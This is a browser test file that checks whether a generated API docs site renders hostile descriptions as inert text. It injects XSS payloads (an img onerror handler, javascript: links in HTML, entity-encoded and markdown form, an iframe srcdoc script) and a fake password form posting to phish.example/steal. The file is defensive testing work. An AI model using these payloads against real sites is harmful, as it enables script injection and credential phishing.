/**
 * A document is input the site does not trust: a scratch copy of the widget document whose
 * descriptions carry markup that passed both linters (issue 36), built into a site and opened
 * in Chromium. Nothing executes (no payload request reaches the server, no script-policy
 * violation is even attempted, no live handler, frame or `javascript:` link is in the page),
 * and nothing renders as a form: the markup is shown as the text it is.
 */
import { mkdtempSync } from "node:fs";
import type { Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { serveStatic } from "../../runtime/cli/static-server.js";
import { listOperations } from "../../runtime/core/router.js";
import { readServices } from "../../scripts/lib/services.js";
import { buildSite } from "../../scripts/lib/site.js";
import { chromiumAvailable, closeAll, launchChromium, requireBrowser } from "../harness/browser.js";
import { bundledDocument } from "../harness/documents.js";

const run = chromiumAvailable || requireBrowser ? describe : describe.skip;
const SERVICE = "widget";

/** Each payload calls home to the docs server under its own name if it ever runs. */
const PAYLOADS = {
  img: `<img alt=">" src=x onerror="fetch('pwned-img')">`,
  entity: `<a href="&#106;avascript:fetch('pwned-entity')">entity-encoded link</a>`,
  markdown: `[markdown link](<javascript:fetch('pwned-markdown')>)`,
  markdownEntity: `[entity markdown link](&#106;avascript:fetch('pwned-markdown-entity'))`,
  iframe: `<iframe title=">" srcdoc="<script>parent.fetch('pwned-iframe')</script>"></iframe>`,
};
const FORM = `<form action="https://phish.example/steal" method="post"><label>Password <input name="password" type="password"></label><button type="submit">Sign in again</button></form>`;

function hostileDocument(): any {
  const doc = structuredClone(bundledDocument(SERVICE));
  const all = Object.values(PAYLOADS).join("\n\n");
  doc.info.description = `${FORM}\n\n${doc.info.description}`;
  for (const { operation } of listOperations(doc)) operation.description = `${all}\n\n${operation.description ?? ""}`;
  for (const schema of Object.values<any>(doc.components.schemas)) schema.description = `Inline: ${Object.values(PAYLOADS).join(" ")}`;
  doc.externalDocs = { url: "javascript:fetch('pwned-external-docs')", description: "more" };
  return doc;
}

run("a document's hostile descriptions in Chromium", () => {
  let browser: Browser;
  let server: Server;
  let base: string;
  let dir: string;
  /** Paths the pages asked the docs server for. */
  const requested: string[] = [];

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), "hostile-site-"));
    const service = readServices().find((s) => s.id === SERVICE)!;
    buildSite([{ service, doc: hostileDocument() }], dir);
    ({ url: base, server } = await serveStatic(dir));
    server.prependListener("request", (req) => requested.push(String(req.url)));
    browser = await launchChromium();
  }, 120_000);

  afterAll(() => closeAll(browser, server, dir));

  it("nothing executes, nothing renders as a form or a frame; the markup shows as text", async () => {
    const page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
    const errors: string[] = [];
    page.on("pageerror", (e) => errors.push(e.message));
    // Any attempt the script policy had to stop means markup reached the page live.
    await page.addInitScript(() => {
      (window as any).__violations = [];
      document.addEventListener("securitypolicyviolation", (e) => (window as any).__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
    });
    await page.goto(`${base}/${SERVICE}.html`);
    await page.waitForSelector("[data-section-id]", { timeout: 20_000 });
    // Let the broken image (if any) fail and its handler (if any) run.
    await page.waitForTimeout(500);
    const live = await page.evaluate(() => ({
      forms: document.querySelectorAll("form").length,
      passwordFields: document.querySelectorAll('input[type="password"]').length,
      frames: document.querySelectorAll("iframe, frame, object, embed").length,
      handlers: [...document.querySelectorAll("*")].filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).length,
      scriptLinks: [...document.querySelectorAll("a[href]")].filter((a) => !/^(https?:|mailto:|about:)/.test((a as HTMLAnchorElement).protocol) || /^javascript:/i.test(a.getAttribute("href")!)).map((a) => a.getAttribute("href")),
      text: document.body.innerText,
    }));
    expect(live.forms).toBe(0);
    expect(live.passwordFields).toBe(0);
    expect(live.frames).toBe(0);
    expect(live.handlers).toBe(0);
    expect(live.scriptLinks).toEqual([]);
    // The reader sees what the document says, as text.
    expect(live.text).toContain(`onerror="fetch('pwned-img')"`);
    expect(live.text).toContain(`<form action="https://phish.example/steal"`);
    expect(live.text).toContain("[markdown link](<javascript:fetch('pwned-markdown')>)");

    // Clicking whatever link text the payloads left behind runs nothing either.
    for (const label of ["entity-encoded link", "markdown link", "entity markdown link", "more"]) {
      const link = page.locator("a", { hasText: label }).first();
      if (await link.count()) await link.click({ timeout: 2_000 }).catch(() => undefined);
    }
    await page.waitForTimeout(300);
    expect(requested.filter((path) => path.includes("pwned"))).toEqual([]);
    expect(await page.evaluate(() => (window as any).__violations)).toEqual([]);
    expect(errors).toEqual([]);
    await page.close();
  });
});
